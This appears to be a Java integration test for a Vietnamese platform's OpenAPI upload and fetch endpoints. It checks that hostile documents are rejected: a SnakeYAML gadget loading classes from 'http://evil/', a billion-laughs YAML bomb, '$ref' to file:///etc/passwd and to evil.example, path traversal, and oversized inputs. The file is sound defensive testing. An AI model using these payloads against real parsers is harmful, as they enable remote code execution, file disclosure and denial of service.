package vn.truongson.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ThreadLocalRandom;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import vn.truongson.support.Api;
import vn.truongson.support.PlatformTest;

/**
 * A service's own OpenAPI document (issue 14 item 1), uploaded over real HTTP (multipart) or fetched from the
 * provider's registered address (a real HTTP server the test starts): kept and served back as given, linked instead of
 * the generated one; every malicious or invalid document refused with 400 naming the field and the reason, nothing kept.
 */
@PlatformTest
class ExchangeOpenApiTest {

    static final String GOOD_JSON = """
            {"openapi":"3.1.0","info":{"title":"Quân nhân","version":"1"},
             "paths":{"/people":{"get":{"responses":{"200":{"description":"OK","content":{"application/json":{"schema":{"$ref":"#/components/schemas/P"}}}}}}}},
             "components":{"schemas":{"P":{"type":"object"}}}}""";
    static final String GOOD_YAML = """
            openapi: 3.0.3
            info:
              title: Quân nhân
              version: "2"
            paths:
              /people:
                get:
                  responses:
                    200:
                      description: OK
            """;

    @LocalServerPort int port;
    @Autowired JdbcClient jdbc;
    Api api;
    final HttpClient http = HttpClient.newHttpClient();
    HttpServer provider;
    final Map<String, byte[]> served = new ConcurrentHashMap<>();

    @BeforeEach
    void setUp() throws Exception {
        api = new Api(port);
        provider = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 10);
        provider.createContext("/", ex -> {
            ex.getRequestBody().readAllBytes();
            String p = ex.getRequestURI().getPath();
            if (p.equals("/api/moved.json")) {
                ex.getResponseHeaders().add("Location", "http://127.0.0.1:1/evil.json");
                ex.sendResponseHeaders(302, -1);
            } else if (served.containsKey(p)) {
                byte[] b = served.get(p);
                ex.sendResponseHeaders(200, b.length);
                ex.getResponseBody().write(b);
            } else {
                ex.sendResponseHeaders(404, -1);
            }
            ex.close();
        });
        provider.start();
    }

    @AfterEach
    void tearDown() {
        provider.stop(0);
    }

    String unit(String code) {
        return jdbc.sql("select id::text from org_unit where code = ?").param(code).query(String.class).single();
    }

    /** A Thường system of BTL86 at the test's provider, with service people. */
    String system() {
        String code = "OAS-" + ThreadLocalRandom.current().nextInt(100_000, 999_999);
        Api.Response r = api.post("/api/v1/exchange/systems", "hethong.btl86", """
                {"code":"%s","name":"Hệ thống có mô tả OpenAPI","ownerUnitId":"%s","purpose":"Thử","securityLevel":2,"secrecy":"THUONG",
                 "zones":["military-network"],"endpointBaseUrl":"http://127.0.0.1:%d/api"}""".formatted(code, unit("BTL86"), provider.getAddress().getPort()));
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        Api.Response s = api.post("/api/v1/exchange/systems/" + code + "/services", "hethong.btl86", """
                {"code":"people","name":"Danh sách","path":"/people","fields":[{"name":"id","classification":"PUBLIC"}]}""");
        assertThat(s.status()).as(s.body()).isEqualTo(201);
        return code;
    }

    HttpResponse<String> upload(String system, String user, String fileName, byte[] content) throws Exception {
        String boundary = "----ts" + ThreadLocalRandom.current().nextLong(1L << 40);
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName + "\"\r\n"
                + "Content-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        body.write(content);
        body.write(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return http.send(HttpRequest.newBuilder(URI.create(api.base() + "/api/v1/exchange/systems/" + system + "/services/people/openapi"))
                .header("Authorization", "Bearer " + api.token(user)).header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())).build(), HttpResponse.BodyHandlers.ofString());
    }

    long kept(String system) {
        return jdbc.sql("select count(*) from exchange_openapi o join exchange_service v on v.id = o.service_id join exchange_system s on s.id = v.system_id "
                + "where s.code = ?").param(system).query(Long.class).single();
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static String deepJson(int depth) {
        return "{\"openapi\":\"3.1.0\",\"info\":{},\"paths\":{},\"x\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
    }

    static String billionLaughs() {
        StringBuilder y = new StringBuilder("openapi: 3.1.0\ninfo: {title: x, version: '1'}\npaths: {}\nx0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 10; i++) {
            y.append("x").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 9; j++) y.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            y.append("]\n");
        }
        return y.toString();
    }

    @Test
    void each_malicious_or_invalid_document_is_refused_with_400_naming_file_and_the_reason() throws Exception {
        String sys = system();
        StringBuilder manyNodes = new StringBuilder("{\"openapi\":\"3.1.0\",\"info\":{},\"paths\":{},\"x\":[0");
        for (int i = 0; i < 150_000; i++) manyNodes.append(",0");
        manyNodes.append("]}");
        byte[] notUtf8 = {(byte) 0xff, (byte) 0xfe, 'o', 'p', 'e', 'n'};
        Object[][] cases = {
                {"external.json", utf8("{\"openapi\":\"3.1.0\",\"info\":{},\"paths\":{\"/a\":{\"$ref\":\"https://evil.example/x.json#/a\"}}}"), "$ref"},
                {"relative.yaml", utf8("openapi: 3.1.0\ninfo: {}\npaths:\n  /a:\n    $ref: 'other.yaml#/paths/~1a'\n"), "$ref"},
                {"fileref.json", utf8("{\"openapi\":\"3.1.0\",\"info\":{},\"paths\":{},\"components\":{\"schemas\":{\"a\":{\"$ref\":\"file:///etc/passwd\"}}}}"), "$ref"},
                {"refobject.json", utf8("{\"openapi\":\"3.1.0\",\"info\":{},\"paths\":{},\"x\":{\"$ref\":{\"a\":1}}}"), "$ref"},
                {"huge.json", utf8("{\"openapi\":\"3.1.0\",\"info\":{},\"paths\":{},\"x\":\"" + "a".repeat(1_100_000) + "\"}"), "1.024 KiB"},
                {"deep.json", utf8(deepJson(500)), "quá sâu"},
                {"deep.yaml", utf8("openapi: 3.1.0\ninfo: {}\npaths: {}\nx: " + "[".repeat(500) + "]".repeat(500) + "\n"), "quá sâu"},
                {"nodes.json", utf8(manyNodes.toString()), "quá nhiều phần tử"},
                {"laughs.yaml", utf8(billionLaughs()), "bí danh"},
                {"tag.yaml", utf8("openapi: 3.1.0\ninfo: {}\npaths: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]\n"), "JSON hoặc YAML"},
                {"two.yaml", utf8("openapi: 3.1.0\ninfo: {}\npaths: {}\n---\nopenapi: 3.1.0\n"), "JSON hoặc YAML"},
                {"broken.json", utf8("{\"openapi\":\"3.1.0\",\"paths\":"), "JSON hoặc YAML"},
                {"swagger.json", utf8("{\"swagger\":\"2.0\",\"info\":{},\"paths\":{}}"), "OpenAPI 3"},
                {"nopaths.yaml", utf8("openapi: 3.1.0\ninfo: {title: x}\n"), "paths"},
                {"noinfo.json", utf8("{\"openapi\":\"3.0.0\",\"paths\":{}}"), "info"},
                {"list.yaml", utf8("- openapi\n- 3.1.0\n"), "OpenAPI 3"},
                {"latin1.json", notUtf8, "UTF-8"},
                {"nul.json", utf8("{\"openapi\":\"3.1.0\u0000\",\"info\":{},\"paths\":{}}"), "UTF-8"},
                {"empty.json", new byte[0], "file"},
                {"script.exe", utf8(GOOD_JSON), ".json, .yaml"},
        };
        for (Object[] c : cases) {
            HttpResponse<String> r = upload(sys, "hethong.btl86", (String) c[0], (byte[]) c[1]);
            assertThat(r.statusCode()).as(c[0] + ": " + r.body()).isEqualTo(400);
            assertThat(r.body()).as((String) c[0]).contains("\"field\":\"file\"").contains((String) c[2]);
        }
        assertThat(kept(sys)).isZero();
        assertThat(api.get("/api/v1/exchange/systems/" + sys + "/services/people/openapi", "hethong.qk1").status()).isEqualTo(404);
    }

    @Test
    void an_uploaded_document_is_kept_served_back_and_linked_instead_of_the_generated_one() throws Exception {
        String sys = system();
        // Not the owner: 403, nothing kept.
        assertThat(upload(sys, "hethong.qk1", "openapi.json", utf8(GOOD_JSON)).statusCode()).isEqualTo(403);
        assertThat(kept(sys)).isZero();
        HttpResponse<String> up = upload(sys, "hethong.btl86", "openapi.json", utf8(GOOD_JSON));
        assertThat(up.statusCode()).as(up.body()).isEqualTo(201);
        assertThat(Api.json(up.body()).get("openapi").asString()).isEqualTo("3.1.0");
        Api.Response back = api.get("/api/v1/exchange/systems/" + sys + "/services/people/openapi", "hethong.qk1");
        assertThat(back.status()).isEqualTo(200);
        assertThat(back.body()).isEqualTo(GOOD_JSON);
        assertThat(back.headers().get("content-type").getFirst()).startsWith("application/json");
        assertThat(back.headers().get("x-content-type-options").getFirst()).isEqualTo("nosniff");
        // Linked instead of the generated one: the data sets' openapiUrl, the system page.
        Api.Response sets = api.get("/api/v1/exchange/datasets?q=" + sys, "hethong.qk1");
        assertThat(sets.json().get(0).get("openapiUrl").asString()).endsWith("/api/v1/exchange/systems/" + sys + "/services/people/openapi");
        // A YAML document replaces it; served as YAML.
        assertThat(upload(sys, "hethong.btl86", "openapi.yaml", utf8(GOOD_YAML)).statusCode()).isEqualTo(201);
        Api.Response yaml = api.get("/api/v1/exchange/systems/" + sys + "/services/people/openapi", "hethong.qk1");
        assertThat(yaml.body()).isEqualTo(GOOD_YAML);
        assertThat(yaml.headers().get("content-type").getFirst()).startsWith("application/yaml");
        assertThat(kept(sys)).isEqualTo(1);
        assertThat(jdbc.sql("select count(*) from audit_event where action = 'exchange.openapi.store' and target = ?").param("exchange-service:" + sys + "/people")
                .query(Long.class).single()).isEqualTo(2);
        // A hidden (Mật) service of the same system: its document is missing as a missing service's.
        jdbc.sql("insert into exchange_service (system_id, code, name, path, secrecy, search_text) select id, 'secret', 'Mật', '/p', 1, 'mat' "
                + "from exchange_system where code = ?").param(sys).update();
        jdbc.sql("insert into exchange_openapi (service_id, sha256, media_type, source, version, size) select v.id, o.sha256, o.media_type, 'UPLOAD', "
                + "o.version, o.size from exchange_service v, exchange_openapi o where v.code = 'secret' and v.system_id = (select id from exchange_system "
                + "where code = ?) and o.service_id = (select id from exchange_service where code = 'people' and system_id = v.system_id)").param(sys).update();
        Api.Response hidden = api.get("/api/v1/exchange/systems/" + sys + "/services/secret/openapi", "hethong.qk1");
        Api.Response missing = api.get("/api/v1/exchange/systems/" + sys + "/services/zzzzzz/openapi", "hethong.qk1");
        assertThat(hidden.status()).isEqualTo(404);
        assertThat(hidden.body().replace("secret", "zzzzzz")).isEqualTo(missing.body());
        assertThat(api.get("/api/v1/exchange/systems/" + sys + "/services/secret/openapi", "admin").status()).isEqualTo(200);
    }

    @Test
    void a_document_is_fetched_only_from_under_the_providers_registered_address_and_checked_the_same_way() throws Exception {
        String sys = system();
        String base = "/api/v1/exchange/systems/" + sys + "/services/people/openapi/fetch";
        int p = provider.getAddress().getPort();
        served.put("/api/laughs.yaml", utf8(billionLaughs()));
        served.put("/api/external.json", utf8("{\"openapi\":\"3.1.0\",\"info\":{},\"paths\":{\"/a\":{\"$ref\":\"http://evil/x\"}}}"));
        served.put("/api/huge.json", utf8("{\"openapi\":\"3.1.0\",\"x\":\"" + "a".repeat(2_000_000) + "\"}"));
        served.put("/other/openapi.json", utf8(GOOD_JSON));
        String[][] refused = {
                {"{\"url\":\"http://127.0.0.1:" + p + "/other/openapi.json\"}", "dưới địa chỉ dịch vụ"},
                {"{\"url\":\"http://127.0.0.1:" + p + "/api/../other/openapi.json\"}", "dưới địa chỉ dịch vụ"},
                {"{\"url\":\"http://localhost:" + p + "/api/openapi.json\"}", "dưới địa chỉ dịch vụ"},
                {"{\"url\":\"file:///etc/passwd\"}", "dưới địa chỉ dịch vụ"},
                {"{\"url\":\"http://127.0.0.1:" + p + "/apix/openapi.json\"}", "dưới địa chỉ dịch vụ"},
                {"{\"url\":\"http://127.0.0.1:" + p + "/api/laughs.yaml\"}", "bí danh"},
                {"{\"url\":\"http://127.0.0.1:" + p + "/api/external.json\"}", "$ref"},
                {"{\"url\":\"http://127.0.0.1:" + p + "/api/huge.json\"}", "1.024 KiB"},
                {"{\"url\":\"http://127.0.0.1:" + p + "/api/moved.json\"}", "302"},
                {"{}", "404"},
        };
        for (String[] c : refused) {
            Api.Response r = api.post(base, "hethong.btl86", c[0]);
            assertThat(r.status()).as(c[0] + ": " + r.body()).isEqualTo(400);
            assertThat(r.body()).as(c[0]).contains("\"field\":\"url\"").contains(c[1]);
        }
        assertThat(kept(sys)).isZero();
        served.put("/api/openapi.json", utf8(GOOD_JSON));
        assertThat(api.post(base, "hethong.qk1", "{}").status()).isEqualTo(403);
        Api.Response ok = api.post(base, "hethong.btl86", "{}");
        assertThat(ok.status()).as(ok.body()).isEqualTo(201);
        assertThat(ok.json().get("source").asString()).isEqualTo("URL");
        assertThat(ok.json().get("sourceUrl").asString()).isEqualTo("http://127.0.0.1:" + p + "/api/openapi.json");
        assertThat(api.get("/api/v1/exchange/systems/" + sys + "/services/people/openapi", "hethong.qk1").body()).isEqualTo(GOOD_JSON);
    }
}
